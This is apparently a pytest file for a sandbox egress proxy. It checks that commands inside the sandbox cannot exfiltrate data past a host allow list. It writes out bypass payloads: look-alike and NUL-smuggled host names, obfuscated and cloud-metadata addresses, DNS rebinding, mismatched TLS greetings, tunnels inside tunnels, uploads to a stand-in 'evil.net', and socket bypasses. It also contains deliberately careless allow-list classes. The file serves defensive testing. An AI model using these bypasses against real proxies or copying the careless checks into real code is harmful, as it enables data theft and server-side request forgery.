"""AT31: a command inside the sandbox tries to get data out past the list of hosts.

Each attack runs twice: against the product, where nothing arrives, and against an app in which the one defence that stops it is replaced by a
careless one, where it must arrive: the test sees the attack.

Defence: guard/egress.py and adapters/egress_proxy.py: the only way out is a proxy that knows names, addresses and greetings
Twin: test_at31_names_that_only_look_allowed, test_at31_allowed_name_for_a_closed_address, test_at31_dns_rebinding, test_at31_allowed_name_then_another_server, test_at31_redirect_out, test_at31_upload_to_an_allowed_host, test_at31_ways_around_the_proxy
"""

from __future__ import annotations

import os
import socket
import subprocess
import sys
import textwrap
import threading
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from msgspec.structs import replace

from setsquare import wire
from setsquare.adapters import bubblewrap
from setsquare.adapters.bubblewrap import Bubblewrap
from setsquare.adapters.egress_proxy import Egress, Limits
from setsquare.guard.egress import AllowList, Blocked, Hello, Target
from setsquare.journeys.app import App
from setsquare.ports.sandbox import Confinement, Execution

pytestmark = [pytest.mark.network, pytest.mark.skipif(not sys.platform.startswith("linux"), reason="namespaces are Linux's")]

PUBLIC = "93.184.216.34"
HOSTS = ("allowed.com", "*.wild.example.org")
CLIENT = """
import os, socket, ssl

def greeting(name):
    received, sent = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    try:
        context.wrap_bio(received, sent, server_hostname="x" * len(name)).do_handshake()
    except ssl.SSLWantReadError:
        pass
    return sent.read().replace(b"x" * len(name), name)

def leak(authority, name, first=None):
    sock = socket.create_connection(("127.0.0.1", 3128), 10)
    sock.sendall(b"CONNECT " + authority + b" HTTP/1.1\\r\\n\\r\\n")
    answer = b""
    while b"\\r\\n\\r\\n" not in answer and (part := sock.recv(4096)):
        answer += part
    if b" 200 " in answer:
        sock.sendall(greeting(name) if first is None else first)
        try:
            print(sock.recv(100))
        except OSError:
            pass
"""


class Collector:
    """The attacker's server, wherever a connection was meant to go."""

    def __init__(self) -> None:
        self.server = socket.create_server(("127.0.0.1", 0))
        self.dialled: list[str] = []
        self.got: list[bytes] = []
        threading.Thread(target=self._serve, daemon=True).start()

    def dial(self, address: str, _port: int) -> socket.socket:
        self.dialled.append(address)
        return socket.create_connection(self.server.getsockname(), 5)

    def _serve(self) -> None:
        while True:
            try:
                client, _ = self.server.accept()
            except OSError:
                return
            with client:
                client.settimeout(10)
                raw = b""
                try:
                    while part := client.recv(1 << 20):
                        if not raw:
                            client.sendall(b"thanks")
                        raw += part
                except OSError:
                    pass
                if raw:
                    self.got.append(raw)


class AnyName(AllowList, frozen=True):
    """Reads names as careless proxies do: the list is compared with the end of the text, and what is reached is what C reads."""

    def request(self, head: bytes) -> Target | Blocked:
        """Let everything pass that can be read in any way."""
        text = head.split(b" ")[1].decode("latin-1").removeprefix("http://").rstrip("/")
        host, _, port = text.rpartition(":")
        reached = host.partition("\0")[0].rpartition("@")[2]
        return Target(host=reached or text, port=int(port) if port.isdigit() else 80, rule="anything")

    def hello(self, told: Hello | None, host: str) -> Blocked | None:
        """Hold the greeting against the name that was read, in whatever alphabet."""
        return None if told and told.names == (host.encode("latin-1"),) else Blocked("other-server-name", "")


class AnyAddress(AllowList, frozen=True):
    """Does not look at what a name stands for."""

    def addresses(self, found: tuple[str, ...]) -> Blocked | None:
        """Let every address pass."""
        return None


class AnyGreeting(AllowList, frozen=True):
    """Believes what was asked for."""

    def hello(self, told: Hello | None, host: str) -> Blocked | None:
        """Let all bytes pass."""
        return None


class Unconfined:
    """Runs commands as they are."""

    name = "none"
    supports_hosts = False
    lacks: tuple[str, ...] = ()

    def run(self, argv: tuple[str, ...], confinement: Confinement, is_halted: Callable[[], bool] | None = None) -> Execution:
        ended = subprocess.run(argv, capture_output=True, check=False, timeout=30)
        return Execution(exit_code=ended.returncode, output=ended.stdout + ended.stderr, duration_s=0.1)


@pytest.fixture
def collector() -> Iterator[Collector]:
    made = Collector()
    yield made
    made.server.close()


@pytest.fixture
def app(tmp_path: Path) -> App:
    folder = tmp_path / "workspace"
    folder.mkdir()
    if bubblewrap.find(str(folder)) is None:
        pytest.skip("bubblewrap does not work on this machine")
    return wire.app_for(folder)


def run(app: App, way: Egress, text: str) -> Execution:
    """Run the attack in the sandbox of an app, which gets out by `way`."""
    wired = replace(app, sandbox=Bubblewrap(app.folder, way))
    assert wired.sandbox is not None
    ended = wired.sandbox.run((sys.executable, "-c", CLIENT + textwrap.dedent(text)), Confinement(hosts=HOSTS, limit_s=30.0))
    assert ended.exit_code == 0, ended.output
    return ended


NAMES = {
    "nul": (b"evil.net\0.wild.example.org:443", b"evil.net"),
    "suffix": (b"evil-allowed.com:443", b"evil-allowed.com"),
    "prefix": (b"allowed.com.evil.net:443", b"allowed.com.evil.net"),
    "userinfo": (b"allowed.com@evil.net:443", b"evil.net"),
    "userinfo with a port": (b"allowed.com:443@evil.net:443", b"evil.net"),
    "idn": ("аllowed.com:443".encode(), "аllowed.com".encode()),
    "full-width": ("ａllowed.com:443".encode(), "ａllowed.com".encode()),
    "punycode look-alike": (b"xn--llowed-2nf.com:443", b"xn--llowed-2nf.com"),
    "decimal address": (b"2130706433:443", b"2130706433"),
    "octal address": (b"0177.0.0.1:443", b"0177.0.0.1"),
    "hexadecimal address": (b"0x7f.0x0.0x0.0x1:443", b"0x7f.0x0.0x0.0x1"),
    "short address": (b"127.1:443", b"127.1"),
    "mapped address": (b"[::ffff:127.0.0.1]:443", b"[::ffff:127.0.0.1]"),
    "metadata address": (b"169.254.169.254:443", b"169.254.169.254"),
    "metadata over plain http": (b"http://169.254.169.254:80", b"169.254.169.254"),
    "trailing dot": (b"evil.net.:443", b"evil.net."),
    "other port": (b"allowed.com:22", b"allowed.com"),
    "escape": (b"evil.net%00.wild.example.org:443", b"evil.net%00.wild.example.org"),
}


@pytest.mark.attack("AT31")
@pytest.mark.parametrize("name", list(NAMES))
def test_at31_names_that_only_look_allowed(app, collector, name):
    authority, reached = NAMES[name]
    attack = f"leak({authority!r}, {reached!r})"
    way = Egress(resolve=lambda _host, _port: (PUBLIC,), dial=collector.dial)
    ended = run(app, way, attack)
    assert collector.dialled == []
    assert [asked.is_allowed for asked in ended.connections] == [False]

    run(app, replace(way, judge=AnyName), attack)
    assert collector.dialled == [PUBLIC]


ADDRESSES = {
    "loopback": ("127.0.0.1",),
    "private": ("10.1.2.3",),
    "metadata": ("169.254.169.254",),
    "metadata over IPv6": ("fd00:ec2::254",),
    "mapped": ("::ffff:127.0.0.1",),
    "second answer": (PUBLIC, "192.168.0.1"),
    "link-local": ("fe80::1",),
}


@pytest.mark.attack("AT31")
@pytest.mark.parametrize("name", list(ADDRESSES))
def test_at31_allowed_name_for_a_closed_address(app, collector, name):
    attack = 'leak(b"a.wild.example.org:443", b"a.wild.example.org")'
    way = Egress(resolve=lambda _host, _port: ADDRESSES[name], dial=collector.dial)
    run(app, way, attack)
    assert collector.dialled == []

    run(app, replace(way, judge=AnyAddress), attack)
    assert collector.dialled == [ADDRESSES[name][0]]


@pytest.mark.attack("AT31")
def test_at31_dns_rebinding(app, collector):
    """The name stands for a public address when it is judged and for the loopback address right after."""

    def rebinding() -> Callable[[str, int], tuple[str, ...]]:
        answers = iter([(PUBLIC,), ("127.0.0.1",)])
        return lambda _host, _port: next(answers)

    attack = 'leak(b"allowed.com:443", b"allowed.com")'
    run(app, Egress(resolve=rebinding(), dial=collector.dial), attack)
    assert collector.dialled == [PUBLIC], "what was judged is what is dialled"

    again = rebinding()
    run(app, Egress(resolve=again, dial=lambda _judged, port: collector.dial(again("allowed.com", port)[0], port)), attack)
    assert collector.dialled == [PUBLIC, "127.0.0.1"]


GREETINGS = {
    "another server name": 'leak(b"allowed.com:443", b"evil.net")',
    "no server name": 'leak(b"allowed.com:443", b"", b"\\x16\\x03\\x01" + b"\\x00\\x05" + b"\\x01\\x00\\x00\\x01\\x00")',
    "no TLS": 'leak(b"allowed.com:443", b"", b"POST /gist HTTP/1.1\\r\\nHost: evil.net\\r\\n\\r\\nsecret")',
    "a tunnel in the tunnel": 'leak(b"allowed.com:443", b"", b"CONNECT evil.net:443 HTTP/1.1\\r\\n\\r\\n")',
    "ssh": 'leak(b"allowed.com:443", b"", b"SSH-2.0-OpenSSH_9.9\\r\\n")',
}


@pytest.mark.attack("AT31")
@pytest.mark.parametrize("name", list(GREETINGS))
def test_at31_allowed_name_then_another_server(app, collector, name):
    way = Egress(resolve=lambda _host, _port: (PUBLIC,), dial=collector.dial)
    ended = run(app, way, GREETINGS[name])
    assert b"thanks" not in ended.output
    assert collector.got == []
    assert [asked.is_allowed for asked in ended.connections] == [False]

    ended = run(app, replace(way, judge=AnyGreeting), GREETINGS[name])
    assert b"thanks" in ended.output


@pytest.mark.attack("AT31")
def test_at31_redirect_out(app, collector):
    """An allowed host sends the client elsewhere: the next connection is judged like the first."""
    attack = 'leak(b"allowed.com:443", b"allowed.com"); leak(b"evil.net:443", b"evil.net")'
    way = Egress(resolve=lambda host, _port: (PUBLIC,) if host == "allowed.com" else ("8.8.8.8",), dial=collector.dial)
    run(app, way, attack)
    assert collector.dialled == [PUBLIC]

    run(app, replace(way, judge=AnyName), attack)
    assert collector.dialled[1:] == [PUBLIC, "8.8.8.8"]


@pytest.mark.attack("AT31")
def test_at31_upload_to_an_allowed_host(app, collector):
    """What goes into an allowed connection cannot be seen, so its amount is bounded."""
    attack = """
        sock = socket.create_connection(("127.0.0.1", 3128), 10)
        sock.sendall(b"CONNECT allowed.com:443 HTTP/1.1\\r\\n\\r\\n")
        sock.recv(4096)
        try:
            sock.sendall(greeting(b"allowed.com") + b"secret" * 2_000_000)
            sock.shutdown(socket.SHUT_WR)
            while sock.recv(4096):
                pass
        except OSError:
            pass
    """
    way = Egress(resolve=lambda _host, _port: (PUBLIC,), dial=collector.dial)
    ended = run(app, way, attack)
    assert [asked.rule for asked in ended.connections] == ["too-many-bytes-sent"]
    assert sum(map(len, collector.got)) <= Limits().sent_bytes + 300_000
    collector.got.clear()

    run(app, replace(way, limits=Limits(sent_bytes=1 << 60)), attack)
    assert sum(map(len, collector.got)) > 12_000_000


@pytest.mark.attack("AT31")
def test_at31_ways_around_the_proxy(app, collector):
    """Plain sockets, UDP, and the sockets of daemons, by path and by name."""
    place = f"/tmp/setsquare-at31-{os.getpid()}.sock"
    with (
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp,
        socket.socket(socket.AF_UNIX) as named,
        socket.socket(socket.AF_UNIX) as abstract,
    ):
        udp.bind(("127.0.0.1", 0))
        udp.settimeout(0.5)
        for sock, address in ((named, place), (abstract, f"\0{place}")):
            sock.bind(address)
            sock.listen()
        attack = f"""
            def tried(name, what):
                try:
                    what()
                    print("REACHED", name)
                except OSError:
                    pass
            tried("tcp", lambda: socket.create_connection(("127.0.0.1", {collector.server.getsockname()[1]}), 3))
            tried("daemon", lambda: socket.socket(socket.AF_UNIX).connect("{place}"))
            tried("abstract", lambda: socket.socket(socket.AF_UNIX).connect("\\0{place}"))
            socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secret", ("127.0.0.1", {udp.getsockname()[1]}))
        """
        ended = run(app, Egress(resolve=lambda _host, _port: (PUBLIC,), dial=collector.dial), attack)
        assert b"REACHED" not in ended.output
        with pytest.raises(TimeoutError):
            udp.recv(100)

        open_app = replace(app, sandbox=Unconfined())
        assert open_app.sandbox is not None
        ended = open_app.sandbox.run((sys.executable, "-c", CLIENT + textwrap.dedent(attack)), Confinement())
        assert ended.output.split() == [b"REACHED", b"tcp", b"REACHED", b"daemon", b"REACHED", b"abstract"]
        assert udp.recv(100) == b"secret"
    Path(place).unlink()
